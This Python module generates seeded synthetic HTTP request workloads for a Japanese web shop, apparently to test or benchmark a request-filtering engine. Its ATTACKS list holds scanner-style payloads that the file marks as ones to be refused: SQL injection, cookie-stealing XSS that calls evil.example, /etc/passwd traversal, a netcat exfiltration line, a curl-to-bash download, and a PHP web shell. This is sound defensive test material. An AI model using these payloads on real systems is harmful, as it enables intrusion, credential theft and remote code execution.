"""Requests of a shop, as bytes, drawn by generators with fixed seeds: two machines send the same.
Each workload is a long list of *distinct* requests, each of another visitor (see shoppers.py). All
but `attack` are harmless."""
import json
import random
from urllib.parse import quote, quote_plus, urlencode

import answers
import shoppers

HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
LANGUAGES = ("ja,en-US;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9", "ja", "en-US,en;q=0.5", "ja;q=0.8,zh-TW;q=0.6")


def request(rng, method, target, body=b"", content_type=None, accept=HTML):
    """As a browser sends it: 12 to 16 headers."""
    page = accept == HTML
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: shop.example.jp",
             'sec-ch-ua-mobile: ?%d' % rng.randrange(2), 'sec-ch-ua-platform: "%s"' % rng.choice(
                 ["Windows", "macOS", "Android", "Linux"]),
             "User-Agent: " + shoppers.agent(rng), "Accept: " + accept,
             "Accept-Language: " + rng.choice(LANGUAGES), "Accept-Encoding: gzip, deflate, br",
             "Referer: https://shop.example.jp/s/chaho/p/tea-%03d?page=%d" % (
                 rng.randrange(1000), rng.randrange(30)),
             "Cookie: " + shoppers.cookies(rng), "Sec-Fetch-Site: same-origin",
             "Sec-Fetch-Mode: " + ("navigate" if page else "cors"),
             "Sec-Fetch-Dest: " + ("document" if page else "empty")]
    if content_type:
        lines += ["Origin: https://shop.example.jp", "Content-Type: " + content_type,
                  "Content-Length: %d" % len(body)]
    return "\r\n".join(lines).encode() + b"\r\n\r\n" + body


def tiny(rng):
    """The least that a client sends: what the engine costs where there is nothing to see."""
    return ("GET / HTTP/1.1\r\nHost: shop.example.jp\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
            % shoppers.agent(rng)).encode()


def search(rng, base):
    return "%s?category=kitchen%d&sort=%s&page=%d&q=%s" % (
        base, rng.randrange(400), rng.choice(["price_asc", "new", "rating"]), rng.randrange(1, 300),
        quote(shoppers.product(rng)))


def browse(rng):
    """A search: four arguments, six cookies."""
    return request(rng, "GET", search(rng, "/products"))


def page(rng):
    """The same; what it is answered with (see answers.py) is inspected."""
    return request(rng, "GET", search(rng, "/page/%d.html" % rng.randrange(PAGES)))


def checkout(rng):
    """A form of 17 fields in Japanese, about 1.5 KB."""
    who = shoppers.person(rng)
    fields = [("csrf", "%064x" % rng.getrandbits(256)), ("step", "confirm"),
              ("family_name", who["family"]), ("given_name", who["given"]),
              ("family_kana", who["family_kana"]), ("given_kana", who["given_kana"]),
              ("email", who["mail"]), ("tel", who["tel"]), ("zip", who["zip"]),
              ("prefecture", who["prefecture"]), ("address", who["address"]), ("house", who["house"]),
              ("delivery", "2026-12-%02d" % rng.randrange(1, 32)), ("payment", rng.choice(["card", "bank", "cod"])),
              ("coupon", "SUMMER%d" % rng.randrange(10**6)), ("gift", str(rng.randrange(2))),
              ("comment", shoppers.prose(rng, 2))]
    return request(rng, "POST", "/checkout", urlencode(fields).encode(), "application/x-www-form-urlencoded")


def cart_line(rng):
    return {"sku": "KT-%06d" % rng.randrange(10**6), "name": shoppers.product(rng),
            "image": "/img/products/%d/main.webp" % rng.randrange(10**6),
            "memo": shoppers.prose(rng, 1)[:18], "qty": rng.randrange(1, 9),
            "price": rng.randrange(500, 90000), "options": {
                "color": rng.choice(shoppers.COLOUR), "engraving": rng.choice(shoppers.FAMILY),
                "gift": rng.random() < .5}}


def json_api(rng):
    """A cart kept by script: about 420 values in 10 KB."""
    who = shoppers.person(rng)
    cart = {"cart_id": "%032x" % rng.getrandbits(128), "currency": "JPY",
            "items": [cart_line(rng) for _ in range(46)],
            "ship_to": {"name": who["family"] + " " + who["given"], "address": who["prefecture"] + who["address"]},
            "note": shoppers.prose(rng, 2)}
    body = json.dumps(cart, ensure_ascii=False, separators=(",", ":")).encode()
    return request(rng, "POST", "/api/v1/cart", body, "application/json", "application/json")


def upload(rng):
    """A merchant's product with a picture of 256 KB, as multipart."""
    edge = "----WebKitFormBoundary%016x" % rng.getrandbits(64)
    body = b""
    for name, value in (("product_id", "KT-%06d" % rng.randrange(10**6)), ("title", shoppers.product(rng)),
                        ("caption", shoppers.prose(rng, 2))):
        body += ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (edge, name, value)).encode()
    body += ('--%s\r\nContent-Disposition: form-data; name="photo"; filename="photo%d.jpg"\r\n'
             'Content-Type: image/jpeg\r\n\r\n' % (edge, rng.randrange(10**6))).encode()
    body += b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00" + rng.randbytes(256 << 10)
    body += ("\r\n--%s--\r\n" % edge).encode()
    return request(rng, "POST", "/desk/product", body, "multipart/form-data; boundary=" + edge)


ATTACKS = ("1' UNION SELECT password,{n},3 FROM users-- -", "{n}' OR '1'='1' -- ", "price; DROP TABLE orders{n};--",
           "-{n} UNION ALL SELECT NULL,username,password FROM users--", "1 AND SLEEP({n})-- -",
           "<script>alert({n}+document.cookie)</script>", '"><img src=x{n} onerror=alert(1)>',
           "<svg/onload=fetch('//evil{n}.example/'+document.cookie)>", "javascript:eval(atob('YWxlcnQ{n}'))",
           "../../../../etc/passwd?{n}", "php://filter/convert.base64-encode/resource=config{n}.php",
           "127.0.0.1; cat /etc/passwd | nc 192.0.2.7 {n}", "$(curl http://192.0.2.7/{n}.sh|bash)",
           "<?php system($_GET['c{n}']); ?>", "http://192.0.2.7/shell{n}.txt?")


def attack(rng):
    """What a scanner tries, in an argument of a query, a form or a JSON text. Must be refused."""
    text = rng.choice(ATTACKS).replace("{n}", str(rng.randrange(1000, 10000)))
    kind = rng.randrange(3)
    if kind == 0:
        return request(rng, "GET", "/search?q=" + quote(text))
    if kind == 1:
        body = ("name=%s&text=%s" % (quote_plus(rng.choice(shoppers.FAMILY)), quote_plus(text))).encode()
        return request(rng, "POST", "/contact", body, "application/x-www-form-urlencoded")
    return request(rng, "POST", "/api/v1/review", json.dumps({"stars": 5, "text": text}).encode(), "application/json")


PAGES = 200
PAGE_BYTES = 28 << 10
# How many of each are drawn. A round of measuring goes on where the last one stopped.
WORKLOADS = {"browse": (browse, 4000), "checkout": (checkout, 3000), "json": (json_api, 400), "upload": (upload, 48),
             "tiny": (tiny, 4000), "page": (page, 2000), "attack": (attack, 1000)}


def draw(name, most=None):
    """The distinct requests of a workload."""
    make, count = WORKLOADS[name]
    rng, drawn = random.Random("shop " + name), {}
    while len(drawn) < min(count, most or count):
        drawn[make(rng)] = None
    return list(drawn)


def pages():
    return answers.draw("page", PAGE_BYTES, PAGES)
